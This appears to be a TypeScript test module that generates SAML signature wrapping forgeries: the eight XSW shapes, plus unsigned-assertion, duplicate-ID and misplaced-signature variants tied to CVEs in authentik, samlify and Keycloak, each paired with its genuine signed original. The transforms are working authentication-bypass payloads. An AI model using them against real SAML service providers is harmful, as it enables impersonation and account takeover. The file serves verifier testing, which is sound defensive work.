/** S1-S3, S9: signature wrapping (Somorovsky et al., USENIX Security 2012; SAML Raider's eight shapes) and its relatives. */
import {
  afterIssuer,
  append,
  assertionOf,
  DSIG,
  evil,
  type Forgery,
  genuine,
  signatureOf,
  swap,
  WAYS,
  withoutSignature,
  withoutSignatures,
} from './documents.ts';

/** Inside the signature, at its end. */
const within = (signature: string, text: string) => append(signature, text);
const object = (text: string) => `<ds:Object xmlns:ds="${DSIG}">${text}</ds:Object>`;
const inSignature = (signature: string, text: string) => within(signature, object(text));

const SHAPES: Record<string, (xml: string) => string> = {
  xsw1: (xml) => afterIssuer(evil(xml), within(signatureOf(xml), withoutSignature(xml))),
  xsw2: (xml) => afterIssuer(evil(xml), withoutSignature(xml) + signatureOf(xml)),
  xsw3: (xml) => swap(xml, assertionOf(xml), evil(assertionOf(xml)) + assertionOf(xml)),
  xsw4: (xml) => swap(xml, assertionOf(xml), append(evil(assertionOf(xml)), assertionOf(xml))),
  xsw5: (xml) =>
    swap(
      xml,
      assertionOf(xml),
      afterIssuer(evil(assertionOf(xml)), signatureOf(xml)) + withoutSignatures(assertionOf(xml)),
    ),
  xsw6: (xml) =>
    swap(
      xml,
      assertionOf(xml),
      afterIssuer(evil(assertionOf(xml)), within(signatureOf(xml), withoutSignatures(assertionOf(xml)))),
    ),
  xsw7: (xml) =>
    swap(xml, '<samlp:Status>', `<samlp:Extensions>${evil(assertionOf(xml))}</samlp:Extensions><samlp:Status>`),
  xsw8: (xml) =>
    swap(
      xml,
      assertionOf(xml),
      afterIssuer(evil(assertionOf(xml)), inSignature(signatureOf(xml), withoutSignatures(assertionOf(xml)))),
    ),
};

const advice = (text: string) => `<saml:Advice>${text}</saml:Advice>`;
const UNSIGNED: Record<string, (xml: string) => string> = {
  'authentik CVE-2026-25922 forged after': (xml) =>
    swap(xml, assertionOf(xml), assertionOf(xml) + evil(assertionOf(xml))),
  'samlify CVE-2025-47949 forged before status': (xml) =>
    swap(xml, '<samlp:Status>', `${evil(assertionOf(xml))}<samlp:Status>`),
  'forged first child': (xml) => swap(xml, '<saml:Issuer>', `${evil(assertionOf(xml))}<saml:Issuer>`),
  'forged in Advice': (xml) =>
    swap(xml, '<saml:AuthnStatement', `${advice(evil(assertionOf(xml)))}<saml:AuthnStatement`),
  'genuine in Advice of forged': (xml) =>
    swap(
      xml,
      assertionOf(xml),
      swap(evil(assertionOf(xml)), '<saml:AuthnStatement', `${advice(assertionOf(xml))}<saml:AuthnStatement`),
    ),
  'genuine in Extensions': (xml) =>
    swap(
      swap(xml, assertionOf(xml), evil(assertionOf(xml))),
      '<samlp:Status>',
      `<samlp:Extensions>${assertionOf(xml)}</samlp:Extensions><samlp:Status>`,
    ),
  'forged in Object of the signature': (xml) =>
    swap(xml, '</ds:Signature>', `${object(evil(assertionOf(xml)))}</ds:Signature>`),
  'genuine in StatusDetail': (xml) =>
    swap(
      swap(xml, assertionOf(xml), evil(assertionOf(xml))),
      '</samlp:Status>',
      `<samlp:StatusDetail>${assertionOf(xml)}</samlp:StatusDetail></samlp:Status>`,
    ),
  'genuine in AttributeValue of forged': (xml) =>
    swap(
      xml,
      assertionOf(xml),
      swap(evil(assertionOf(xml)), '</saml:AttributeValue>', `${assertionOf(xml)}</saml:AttributeValue>`),
    ),
};

const SAME_ID: Record<string, (xml: string) => string> = {
  'copy first': (xml) => swap(xml, assertionOf(xml), evil(assertionOf(xml), '_assertion') + assertionOf(xml)),
  'copy last': (xml) => swap(xml, assertionOf(xml), assertionOf(xml) + evil(assertionOf(xml), '_assertion')),
  'copied signature': (xml) =>
    swap(
      swap(xml, assertionOf(xml), afterIssuer(evil(assertionOf(xml), '_assertion'), signatureOf(assertionOf(xml)))),
      '<samlp:Status>',
      `<samlp:Extensions>${assertionOf(xml)}</samlp:Extensions><samlp:Status>`,
    ),
  'hidden in Extensions': (xml) =>
    swap(
      swap(xml, assertionOf(xml), evil(assertionOf(xml), '_assertion')),
      '<samlp:Status>',
      `<samlp:Extensions>${assertionOf(xml)}</samlp:Extensions><samlp:Status>`,
    ),
  'id of the response': (xml) => swap(xml, assertionOf(xml), evil(assertionOf(xml), '_response') + assertionOf(xml)),
};

const POSITION: Record<string, (xml: string) => string> = {
  'assertion signature at the root over another assertion': (xml) =>
    afterIssuer(swap(xml, assertionOf(xml), evil(assertionOf(xml))), signatureOf(assertionOf(xml))),
  'assertion signature at the root, genuine kept': (xml) =>
    afterIssuer(
      swap(xml, assertionOf(xml), evil(assertionOf(xml)) + withoutSignature(assertionOf(xml))),
      signatureOf(assertionOf(xml)),
    ),
  'signature in Conditions': (xml) =>
    swap(
      swap(xml, assertionOf(xml), evil(assertionOf(xml), '_assertion')),
      '</saml:Conditions>',
      `${signatureOf(assertionOf(xml))}</saml:Conditions>`,
    ),
  'response without its signature, forged assertion with one of the response': (xml) =>
    swap(
      withoutSignatures(xml),
      assertionOf(withoutSignatures(xml)),
      afterIssuer(evil(assertionOf(xml)), swap(signatureOf(assertionOf(xml)), /URI="[^"]*"/, 'URI="#_response"')),
    ),
  'reference to nothing': (xml) =>
    swap(
      swap(xml, assertionOf(xml), afterIssuer(evil(assertionOf(xml)), signatureOf(assertionOf(xml)))),
      /URI="[^"]*"/,
      'URI=""',
    ),
};

const each = (family: string, shapes: Record<string, (xml: string) => string>, ways = WAYS): Forgery[] =>
  ways.flatMap((way) => {
    const benign = genuine(way);
    return Object.entries(shapes).map(([name, shape]) => ({
      id: `${family} ${name}, ${way} signed`,
      xml: shape(benign),
      benign,
    }));
  });

export const wrapping: readonly Forgery[] = [
  ...each('S1', SHAPES),
  ...each('S2', UNSIGNED, ['assertion', 'both', 'response']),
  ...each('S3 OneUptime #2949', SAME_ID, ['assertion', 'both']),
  ...each('S9 Keycloak CVE-2024-8698', POSITION, ['assertion', 'both']),
];
